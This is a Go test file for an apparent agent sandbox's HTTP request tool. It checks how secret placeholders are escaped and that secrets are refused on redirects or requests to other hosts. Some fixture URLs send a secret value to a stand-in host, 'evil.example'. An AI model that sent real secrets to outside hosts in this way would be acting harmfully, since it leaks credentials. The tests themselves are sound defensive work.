package web

import (
	"encoding/base64"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"

	"sextant/backend/sandbox/secrets"
	"sextant/shared/toolspec"
)

// vaultWith keeps one secret for api.example:80.
func vaultWith(t *testing.T, name, value string) *secrets.Vault {
	t.Helper()
	v, err := secrets.Open(secrets.Config{Dir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := v.Put(secrets.Secret{Name: name, Host: "api.example:80"}, value); err != nil {
		t.Fatal(err)
	}
	return v
}

func TestSecretsAreEscapedForTheirContext(t *testing.T) {
	t.Parallel()
	const value = `p&ss "w/rd"+`
	var got struct {
		path, query, basic, body string
		sync.Mutex
	}
	n := newFakeInternet(t, func(_ http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		got.Lock()
		defer got.Unlock()
		got.path, got.query, got.basic, got.body = r.URL.Path, r.URL.Query().Get("k"), r.Header.Get("Authorization"),
			string(b)
	})
	n.cfg.Secrets = vaultWith(t, "git", value)
	for _, body := range []struct {
		kind string
		body any
		want string
	}{
		{"", map[string]string{"k": "{{secret:git}}"}, `{"k":"p\u0026ss \"w/rd\"+"}`},
		{"application/x-www-form-urlencoded", "k={{secret:git}}&l=1", "k=p%26ss+%22w%2Frd%22%2B&l=1"},
		{"text/plain", "k={{ secret:git }}", "k=" + value},
	} {
		t.Run(body.kind, func(t *testing.T) {
			headers := map[string]string{"Authorization": "Basic ana:{{secret:git}}"}
			if body.kind != "" {
				headers["Content-Type"] = body.kind
			}
			wantText(t, n.do(t, "http_request", map[string]any{
				"url":    "http://api.example/a/{{secret:git}}?k={{secret:git}}",
				"method": "POST", "headers": headers, "body": body.body,
			}), "200")
			basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("ana:"+value))
			if got.path != "/a/"+value || got.query != value || got.basic != basic ||
				strings.ReplaceAll(got.body, `\u0026`, "&") != strings.ReplaceAll(body.want, `\u0026`, "&") {
				t.Errorf("got %q %q %q %q", got.path, got.query, got.basic, got.body)
			}
		})
	}
	d := n.Describe(callOf("http_request", map[string]any{
		"url":     "http://api.example/a/{{secret:git}}",
		"headers": map[string]string{"X-K": "{{secret:git}}"},
	}))
	if len(d.Secrets) != 2 || d.Secrets[1] != (toolspec.SecretUse{
		Name: "git", Place: "header",
		Origin: "http://api.example",
	}) || !strings.Contains(d.Target, "/a/{{secret:git}}") {
		t.Errorf("it is described as %+v", d)
	}
}

func TestSecretsDoNotFollowRedirects(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	reached := map[string]string{}
	n := newFakeInternet(t, func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		reached[r.Host] += r.URL.RawQuery + r.Header.Get("X-Key") + "\n"
		mu.Unlock()
		if to := r.URL.Query().Get("to"); to != "" {
			http.Redirect(w, r, to, http.StatusTemporaryRedirect)
		}
	})
	n.allowed = []string{"http"}
	n.cfg.Secrets = vaultWith(t, "git", "value-of-git")
	for _, to := range []string{
		"http://evil.example/?k=value-of-git", "http://api.example:8080/",
		"https://api.example/", "http://x.api.example/",
	} {
		for _, headers := range []map[string]string{{"X-Key": "{{secret:git}}"}, nil} {
			args := map[string]any{"url": "http://api.example/?k={{secret:git}}&to=" + to}
			if headers != nil {
				args["headers"] = headers
			}
			wantError(t, n.do(t, "http_request", args), toolspec.PermissionError, "the request contains a secret")
		}
	}
	wantText(t, n.do(t, "http_request", map[string]any{
		"url":     "http://api.example/?to=/here",
		"headers": map[string]string{"X-Key": "{{secret:git}}"},
	}), "after 1 redirects")
	if len(reached) != 1 || !strings.Contains(reached["api.example"], "value-of-git") {
		t.Errorf("reached %v", reached)
	}
	wantError(t, n.do(t, "http_request", map[string]any{"url": "http://evil.example/?k={{secret:git}}"}),
		toolspec.SecurityError, "bound to api.example:80")
	wantError(t, n.do(t, "http_request", map[string]any{"url": "https://api.example/?k={{secret:git}}"}),
		toolspec.SecurityError, "bound to api.example:80")
	wantError(t, n.do(t, "http_request", map[string]any{"url": "http://api.example/?k={{secret:nobody}}"}),
		toolspec.UserError, "Use one of: git")
	n.cfg.Secrets = vaultWith(t, "pem", "-----BEGIN X-----\nabc\n")
	wantError(t, n.do(t, "http_request", map[string]any{
		"url":     "http://api.example/",
		"headers": map[string]string{"X-Key": "{{secret:pem}}"},
	}), toolspec.ValidationError, "line ends")
}
